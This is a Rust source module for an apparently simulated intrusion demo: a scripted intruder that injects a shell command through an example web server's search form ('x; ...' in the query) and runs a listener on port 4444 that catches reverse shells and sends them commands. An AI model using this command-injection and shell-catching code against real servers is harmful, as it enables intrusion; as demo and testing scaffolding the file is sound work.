//! The scripted intruder: gets in through the example web server's hole, and listens for shells
//! that call home. The demo and the scenarios share it.

pub mod acts;

use std::io::{self, Read as _, Write as _};
use std::sync::Arc;

use crate::fargate::backend::{Opening, Service, Stream};
use crate::fargate::task::Task;

/// The opening at which shells call home.
pub const HEADQUARTERS: &str = "headquarters";

/// The web server's port.
const PORT: u16 = 8080;

/// What a shell that calls home is told.
const ORDERS: &[u8] = b"id\nexit\n";

/// Where the intruder waits for shells; `hear` gets what a shell answered.
pub fn headquarters(hear: impl Fn(&str) + Send + Sync + 'static) -> Opening {
    Opening {
        name: HEADQUARTERS.to_owned(),
        address: "127.0.0.1:4444".to_owned(),
        service: Service::Handler(Arc::new(move |shell: &mut dyn Stream| {
            let mut answer = String::new();
            let told = shell
                .write_all(ORDERS)
                .and_then(|()| shell.read_to_string(&mut answer));
            if told.is_ok() {
                hear(answer.trim());
            }
        })),
    }
}

/// Sends the script through the search form and returns what the server answers.
pub fn exploit(task: &Task, script: &str) -> io::Result<String> {
    let mut server = task.connect(PORT)?;
    let query = encoded(&format!("x; {script}"));
    write!(
        server,
        "GET /search?q={query} HTTP/1.1\r\nhost: web\r\n\r\n"
    )?;
    let mut answer = Vec::new();
    server.read_to_end(&mut answer)?;
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

fn encoded(text: &str) -> String {
    let mut query = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() {
            query.push(char::from(byte));
        } else {
            let digit = |value: u8| char::from_digit(u32::from(value), 16).unwrap_or('0');
            query.extend(['%', digit(byte >> 4), digit(byte & 15)]);
        }
    }
    query
}

#[cfg(test)]
mod tests {
    use super::encoded;

    #[test]
    fn scripts_fit_into_a_request_line() {
        assert_eq!(encoded("x; id"), "x%3b%20id");
    }
}
